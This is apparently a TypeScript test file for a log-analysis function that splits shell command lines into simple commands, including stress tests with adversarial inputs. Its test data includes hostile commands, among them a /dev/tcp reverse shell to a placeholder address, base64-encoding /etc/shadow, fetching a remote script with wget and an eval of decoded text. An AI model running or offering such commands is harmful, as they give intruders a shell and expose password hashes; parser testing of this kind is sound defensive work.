import assert from 'node:assert/strict'
import {describe, it} from 'node:test'

import {type CommandBoundary, splitSimpleCommands} from '../../src/logs/simple-commands.js'

/** The simple commands of `line` as texts, each with the boundary after it. */
function split(line: string): Array<[string, CommandBoundary]> {
  return splitSimpleCommands(line).commands.map(({end, next, start}) => [line.slice(start, end), next])
}

const texts = (line: string): string[] => split(line).map(([text]) => text)

describe('splitSimpleCommands', () => {
  it('splits at ; && || | |& & and newlines, naming the strongest boundary after each command', () => {
    assert.deepEqual(split('uname -a; id && whoami || w | grep x |& nc a 1 & sleep 1\nls'), [
      ['uname -a', 'list'], ['id', 'list'], ['whoami', 'list'], ['w', 'pipe'], ['grep x', 'pipe'], ['nc a 1', 'list'], ['sleep 1', 'list'], ['ls', 'end'],
    ])
    assert.deepEqual(split('a |; ; b'), [['a', 'list'], ['b', 'end']], 'an empty command between two boundaries: the stronger one counts')
    assert.deepEqual(split(' ;; ;\n'), [])
  })

  it('splits around $(...), (...) and backquotes, and goes on after them', () => {
    assert.deepEqual(texts('echo $(cat /etc/shadow | base64) done'), ['echo', 'cat /etc/shadow', 'base64', 'done'])
    assert.deepEqual(texts('(cd /tmp; wget x) && `id`'), ['cd /tmp', 'wget x', 'id'])
    assert.deepEqual(texts('eval "$(echo Y2Q= | base64 -d)"'), ['eval "', 'echo Y2Q=', 'base64 -d', '"'], '$( opens a command inside double quotes too')
    assert.deepEqual(texts('echo "$(echo "a;b")c;d" ; e'), ['echo "', 'echo "a;b"', 'c;d"', 'e'], 'back inside the outer quotes after )')
    assert.deepEqual(texts('echo $(( 1 + (2) )); x'), ['echo', '1 +', '2', 'x'])
  })

  it('keeps separators that are quoted, escaped or in a comment', () => {
    assert.deepEqual(texts(`python -c 'import os;os.system("id")'; echo "a;b|c&&d" x`), [`python -c 'import os;os.system("id")'`, 'echo "a;b|c&&d" x'])
    assert.deepEqual(texts(String.raw`echo a\;b\|c\&d; find . -exec rm {} \;`), [String.raw`echo a\;b\|c\&d`, String.raw`find . -exec rm {} \;`])
    assert.deepEqual(texts("echo $'it\\'s;'; id"), ["echo $'it\\'s;'", 'id'], "$'...' takes backslash escapes")
    assert.deepEqual(texts("# it's a comment; with a quote\nwget http://x/y.sh"), ['wget http://x/y.sh'], 'a quote in a comment opens nothing')
    assert.deepEqual(texts('echo a#b; id'), ['echo a#b', 'id'], '# inside a word is not a comment')
    assert.deepEqual(texts('echo a \\\nb; id'), ['echo a \\\nb', 'id'], 'a backslash-newline joins lines')
  })

  it('does not split at redirections: >& <& &> >|', () => {
    assert.deepEqual(texts('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1; id'), ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'id'])
    assert.deepEqual(texts('cmd &>/dev/null <&3 >| out; id'), ['cmd &>/dev/null <&3 >| out', 'id'])
  })

  it('runs what is not closed to the end of the line', () => {
    assert.deepEqual(texts(`echo 'a; b; c`), [`echo 'a; b; c`])
    assert.deepEqual(texts('echo "a; b'), ['echo "a; b'])
    assert.deepEqual(texts('echo $(id; uname -a'), ['echo', 'id', 'uname -a'])
    assert.deepEqual(texts('a ) b ) c'), ['a', 'b', 'c'], 'a ) that closes nothing is still a boundary')
    assert.deepEqual(texts('trailing\\'), ['trailing\\'])
  })

  it('reads each character of hostile lines once, without recursion', () => {
    const mb = 1024 * 1024
    const hostile = {
      'a megabyte of ;': ';'.repeat(mb),
      'a megabyte of |': '|'.repeat(mb),
      'half a million nested $(': '$('.repeat(mb / 2),
      'nested $( closed': `${'$(id '.repeat(mb / 10)}${')'.repeat(mb / 10)}`,
      'nested quotes in $(': '"$('.repeat(mb / 3),
      'unbalanced quotes': `'${';'.repeat(mb)}`,
      'escaped separators': '\\;'.repeat(mb / 2),
      'escapes at the end': '\\'.repeat(mb),
      'alternating quotes': `"'`.repeat(mb / 2),
      'comment starts': '# ;\n'.repeat(mb / 4),
      'short commands': 'a;'.repeat(mb / 2),
    }
    for (const [name, line] of Object.entries(hostile)) {
      const {commands, examined} = splitSimpleCommands(line)
      assert.equal(examined, line.length, `${name}: every character read once`)
      // commands are disjoint spans in order: no more of them than characters
      let previousEnd = 0
      for (const {end, start} of commands) {
        assert.ok(start >= previousEnd && end > start, name)
        previousEnd = end
      }

      assert.ok(commands.length <= line.length, name)
    }

    assert.equal(splitSimpleCommands(';'.repeat(mb)).commands.length, 0)
    assert.equal(splitSimpleCommands('a;'.repeat(mb / 2)).commands.length, mb / 2)
    assert.equal(splitSimpleCommands('\\;'.repeat(mb / 2)).commands.length, 1, 'escaped separators separate nothing')
    assert.equal(splitSimpleCommands(`'${';'.repeat(mb)}`).commands.length, 1)
  })
})
